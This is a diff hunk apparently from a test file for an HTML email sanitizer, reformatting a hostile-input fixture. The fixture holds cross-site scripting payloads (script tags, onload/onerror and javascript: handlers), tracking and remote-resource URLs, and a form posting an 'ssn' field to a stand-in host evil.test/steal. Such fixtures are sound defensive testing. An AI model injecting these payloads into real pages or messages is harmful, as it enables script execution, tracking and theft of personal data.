@@ -17,7 +17,8 @@ HOSTILE = """<html><head><base href="https://evil.test/"><meta http-equiv="refre
 <style>@import url(https://evil.test/x.css); p { background: url(https://evil.test/p) }</style></head>
 <body onload="alert(1)"><p style="background:url(https://evil.test/s);color:red" onclick="alert(2)">Dear Jane</p>
 <script>alert(3)</script><svg><foreignObject><script>alert(4)</script></foreignObject></svg>
-<img src="cid:logo"><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="https://evil.test/pixel.gif"><img src=x onerror=alert(5)><a href="javascript:alert(6)">one</a>
+<img src="cid:logo"><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="https://evil.test/pixel.gif">
+<img src=x onerror=alert(5)><a href="javascript:alert(6)">one</a>
 <a href="data:text/html,<script>alert(7)</script>">two</a><a href="https://clinic.test/page">three</a>
 <form action="https://evil.test/steal"><input name="ssn"><button>go</button></form>
 <iframe src="https://evil.test"></iframe><object data="https://evil.test"></object>
